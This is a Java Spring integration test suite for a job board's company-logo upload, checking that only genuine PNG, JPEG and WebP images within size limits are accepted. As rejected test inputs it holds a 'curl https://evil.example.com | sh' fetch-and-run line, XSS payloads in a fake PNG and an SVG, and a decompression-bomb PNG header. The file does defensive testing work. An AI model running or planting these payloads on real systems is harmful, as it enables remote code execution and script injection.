package com.jobboard.company.admin;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.CookieManager;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;

import javax.imageio.ImageIO;

import com.jobboard.company.Company;
import com.jobboard.company.CompanyRepository;
import com.jobboard.security.Role;
import com.jobboard.security.SignedInUser;
import com.jobboard.security.UserAccount;
import com.jobboard.security.UserAccountRepository;
import com.jobboard.support.IntegrationTest;
import com.jobboard.support.TestCompanies;
import com.jobboard.support.TestPasswords;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.domain.PageRequest;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static com.jobboard.company.admin.AdminPages.admin;
import static com.jobboard.company.admin.AdminPages.fieldError;
import static com.jobboard.company.admin.AdminPages.formValues;
import static com.jobboard.company.admin.AdminPages.page;
import static com.jobboard.company.admin.AdminPages.parse;
import static com.jobboard.company.admin.AdminPages.post;
import static com.jobboard.company.admin.AdminPages.set;
import static com.jobboard.company.admin.AdminPages.token;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

/**
 * Logo uploads are judged by their content, within 1 MB, and the container refuses bigger
 * requests politely.
 */
@IntegrationTest
class CompanyAdminLogoIT {

	/** A 1×1 lossless WebP image. */
	static final byte[] WEBP = Base64.getDecoder().decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");

	@Autowired
	MockMvc mvc;

	@Autowired
	TestCompanies testCompanies;

	@Autowired
	CompanyRepository companies;

	@Autowired
	UserAccountRepository users;

	@Autowired
	CompanyRevisions revisions;

	@LocalServerPort
	int port;

	private final SignedInUser admin = admin();

	@Test
	void pngNamedExeAndSentAsOctetStreamIsAcceptedAsPng() throws Exception {
		Company company = this.testCompanies.company("Png Exe");
		byte[] png = image("png", 64, 32);

		MvcResult result = upload(company, new MockMultipartFile("logo", "setup.exe", "application/octet-stream", png));

		assertThat(result.getResponse().getStatus()).isEqualTo(303);
		Company saved = this.companies.findById(company.getId()).orElseThrow();
		assertThat(saved.getLogoId()).isNotNull();
		MvcResult logo = this.mvc.perform(get("/logos/" + saved.getLogoId())).andReturn();
		assertThat(logo.getResponse().getContentType()).isEqualTo("image/png");
		assertThat(logo.getResponse().getContentAsByteArray()).isEqualTo(png);
		assertThat(logo.getResponse().getHeader("Cache-Control")).contains("immutable");
		Document profile = parse(this.mvc.perform(get("/companies/" + saved.getSlug())).andReturn());
		assertThat(profile.select("header.profile-header img.logo").attr("src"))
			.isEqualTo("/logos/" + saved.getLogoId());
		Revision latest = this.revisions.page(company.getId(), PageRequest.of(0, 1)).getContent().get(0);
		assertThat(latest.kind()).isEqualTo(RevisionKind.LOGO_CHANGED);
		assertThat(latest.snapshot().logoId()).isEqualTo(saved.getLogoId());
	}

	@Test
	void jpegAndWebpAreAccepted() throws Exception {
		Company company = this.testCompanies.company("Jpeg Webp");

		upload(company, new MockMultipartFile("logo", "photo.jpg", "image/jpeg", image("jpeg", 40, 40)));
		Long jpegId = this.companies.findById(company.getId()).orElseThrow().getLogoId();
		upload(company, new MockMultipartFile("logo", "logo.webp", "", WEBP));
		Long webpId = this.companies.findById(company.getId()).orElseThrow().getLogoId();

		assertThat(jpegId).isNotNull();
		assertThat(webpId).isNotNull().isNotEqualTo(jpegId);
		assertThat(this.mvc.perform(get("/logos/" + jpegId)).andReturn().getResponse().getContentType())
			.isEqualTo("image/jpeg");
		assertThat(this.mvc.perform(get("/logos/" + webpId)).andReturn().getResponse().getContentType())
			.isEqualTo("image/webp");
	}

	@Test
	void scriptNamedPngIsRefusedWithAMessageAndTheTypedTextIsKept() throws Exception {
		Company company = this.testCompanies.company("Script Png");
		byte[] script = "#!/bin/sh\ncurl https://evil.example.com | sh\n<script>alert(1)</script>"
			.getBytes(StandardCharsets.UTF_8);
		String editPath = "/admin/companies/" + company.getId() + "/edit";
		Map<String, List<String>> values = formValues(page(this.mvc, editPath, this.admin));
		set(values, "tagline", "Kept while the logo is refused");

		MvcResult result = this.mvc
			.perform(post(editPath, values, this.admin, new MockMultipartFile("logo", "logo.png", "image/png", script)))
			.andReturn();

		assertThat(result.getResponse().getStatus()).isEqualTo(422);
		Document page = parse(result);
		assertThat(fieldError(page, "logo")).startsWith("This file is not a PNG, JPEG or WebP image");
		assertThat(page.getElementById("logo").attr("aria-describedby")).contains("logo-error");
		assertThat(page.getElementById("tagline").attr("value")).isEqualTo("Kept while the logo is refused");
		assertThat(page.text()).contains("please choose it again");
		Company unchanged = this.companies.findById(company.getId()).orElseThrow();
		assertThat(unchanged.getLogoId()).isNull();
		assertThat(unchanged.getTagline()).isNull();
	}

	@Test
	void otherFormatsAndBrokenImagesAreRefused() throws Exception {
		Company company = this.testCompanies.company("Other Formats");

		assertThat(logoError(company, new MockMultipartFile("logo", "a.gif", "image/gif", image("gif", 8, 8))))
			.startsWith("This file is not a PNG, JPEG or WebP image");
		assertThat(logoError(company,
				new MockMultipartFile("logo", "a.svg", "image/svg+xml",
						"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"
							.getBytes(StandardCharsets.UTF_8))))
			.startsWith("This file is not a PNG, JPEG or WebP image");
		byte[] truncated = Arrays.copyOf(image("png", 64, 64), 20);
		assertThat(logoError(company, new MockMultipartFile("logo", "cut.png", "image/png", truncated)))
			.startsWith("This image file is damaged");
		byte[] fakeWebp = "RIFF\u00ff\u00ff\u00ff\u007fWEBPVP8 garbage".getBytes(StandardCharsets.ISO_8859_1);
		assertThat(logoError(company, new MockMultipartFile("logo", "x.webp", "image/webp", fakeWebp)))
			.startsWith("This image file is damaged");
		assertThat(logoError(company, new MockMultipartFile("logo", "empty.png", "image/png", new byte[0])))
			.startsWith("The file you chose is empty");
		assertThat(
				logoError(company, new MockMultipartFile("logo", "huge.png", "image/png", pngHeader(100_000, 100_000))))
			.contains("at most 5,000 pixels");
		assertThat(this.companies.findById(company.getId()).orElseThrow().getLogoId()).isNull();
	}

	@Test
	void logoOverOneMegabyteIsRefusedWithAMessage() throws Exception {
		Company company = this.testCompanies.company("Big Logo");
		byte[] png = image("png", 16, 16);
		byte[] big = Arrays.copyOf(png, 1024 * 1024 + 1);

		assertThat(logoError(company, new MockMultipartFile("logo", "big.png", "image/png", big)))
			.isEqualTo("The file is 1,025 KB; a logo may be at most 1 MB (1,024 KB). Choose a smaller image.");
		byte[] exactlyOneMegabyte = Arrays.copyOf(png, 1024 * 1024);
		assertThat(
				upload(company, new MockMultipartFile("logo", "max.png", "image/png", exactlyOneMegabyte)).getResponse()
					.getStatus())
			.isEqualTo(303);
	}

	@Test
	void logoCanBeRemoved() throws Exception {
		Company company = this.testCompanies.company("Remove Logo");
		upload(company, new MockMultipartFile("logo", "a.png", "image/png", image("png", 10, 10)));
		String editPath = "/admin/companies/" + company.getId() + "/edit";
		Document page = page(this.mvc, editPath, this.admin);
		assertThat(page.select("label[for=removeLogo1]").text()).isEqualTo("Remove the logo");
		Map<String, List<String>> values = formValues(page);
		set(values, "removeLogo", "true");

		this.mvc.perform(post(editPath, values, this.admin)).andReturn();

		Company saved = this.companies.findById(company.getId()).orElseThrow();
		assertThat(saved.getLogoId()).isNull();
		assertThat(parse(this.mvc.perform(get("/companies/" + saved.getSlug())).andReturn())
			.select("header.profile-header .logo-placeholder")).hasSize(1);
	}

	@Test
	void uploadOverTheContainerLimitAnswers413WithAMessage() throws Exception {
		Company company = this.testCompanies.company("Container Limit");
		HttpClient browser = HttpClient.newBuilder()
			.cookieHandler(new CookieManager())
			.followRedirects(HttpClient.Redirect.NEVER)
			.connectTimeout(Duration.ofSeconds(10))
			.build();
		signInAsNewAdmin(browser);
		Document form = Jsoup
			.parse(send(browser, HttpRequest.newBuilder(uri("/admin/companies/" + company.getId() + "/edit")).GET())
				.body());
		String action = form.selectFirst("form.company-form").attr("action");
		// Over spring.servlet.multipart.max-file-size (8 MB, for CVs); smaller logos
		// reach the form's own check.
		byte[] tooBig = Arrays.copyOf(image("png", 16, 16), 8704 * 1024);
		String boundary = "----jobboard" + token();
		ByteArrayOutputStream body = new ByteArrayOutputStream();
		body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nStill here\r\n")
			.getBytes(StandardCharsets.UTF_8));
		body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"logo\"; filename=\"big.png\"\r\n"
				+ "Content-Type: image/png\r\n\r\n")
			.getBytes(StandardCharsets.UTF_8));
		body.writeBytes(tooBig);
		body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));

		HttpResponse<String> response = send(browser,
				HttpRequest.newBuilder(uri(action))
					.header("Content-Type", "multipart/form-data; boundary=" + boundary)
					.POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())));

		assertThat(response.statusCode()).isEqualTo(413);
		Document page = Jsoup.parse(response.body());
		assertThat(page.select("h1").text()).isEqualTo("That file is too large");
		assertThat(page.text()).contains("A logo may be at most 1 MB");
		assertThat(page.select("main a").attr("href")).isEqualTo("/admin/companies/" + company.getId() + "/edit");
		assertThat(this.companies.findById(company.getId()).orElseThrow().getName()).isEqualTo(company.getName());
	}

	private String logoError(Company company, MockMultipartFile file) throws Exception {
		MvcResult result = upload(company, file);
		assertThat(result.getResponse().getStatus()).isEqualTo(422);
		return fieldError(parse(result), "logo");
	}

	private MvcResult upload(Company company, MockMultipartFile file) throws Exception {
		String editPath = "/admin/companies/" + company.getId() + "/edit";
		Map<String, List<String>> values = formValues(page(this.mvc, editPath, this.admin));
		return this.mvc.perform(post(editPath, values, this.admin, file)).andReturn();
	}

	private void signInAsNewAdmin(HttpClient browser) throws Exception {
		String email = "logo-admin-" + token() + "@example.com";
		String password = TestPasswords.PASSWORD;
		this.users.save(new UserAccount(email, TestPasswords.HASH, Role.ADMIN, null));
		Document login = Jsoup.parse(send(browser, HttpRequest.newBuilder(uri("/login")).GET()).body());
		String csrf = login.selectFirst("input[name=_csrf]").attr("value");
		String form = "username=" + URLEncoder.encode(email, StandardCharsets.UTF_8) + "&password="
				+ URLEncoder.encode(password, StandardCharsets.UTF_8) + "&_csrf="
				+ URLEncoder.encode(csrf, StandardCharsets.UTF_8);
		HttpResponse<String> signedIn = send(browser,
				HttpRequest.newBuilder(uri("/login"))
					.header("Content-Type", "application/x-www-form-urlencoded")
					.POST(HttpRequest.BodyPublishers.ofString(form)));
		assertThat(signedIn.statusCode()).isEqualTo(302);
		assertThat(signedIn.headers().firstValue("Location")).get().asString().doesNotContain("error");
	}

	private URI uri(String path) {
		return URI.create("http://localhost:" + this.port + path);
	}

	private static HttpResponse<String> send(HttpClient client, HttpRequest.Builder request)
			throws IOException, InterruptedException {
		return client.send(request.timeout(Duration.ofSeconds(30)).header("Accept", "text/html").build(),
				HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
	}

	static byte[] image(String format, int width, int height) throws IOException {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
		image.setRGB(0, 0, Color.ORANGE.getRGB());
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		assertThat(ImageIO.write(image, format, out)).as("writer for " + format).isTrue();
		return out.toByteArray();
	}

	/**
	 * Just a PNG signature and header claiming the given size: what a decompression bomb
	 * starts with.
	 */
	static byte[] pngHeader(int width, int height) {
		ByteBuffer ihdr = ByteBuffer.allocate(17);
		ihdr.put("IHDR".getBytes(StandardCharsets.US_ASCII)).putInt(width).putInt(height);
		ihdr.put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
		CRC32 crc = new CRC32();
		crc.update(ihdr.array());
		ByteBuffer png = ByteBuffer.allocate(8 + 4 + 17 + 4);
		png.put(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' });
		png.putInt(13).put(ihdr.array()).putInt((int) crc.getValue());
		return png.array();
	}

}
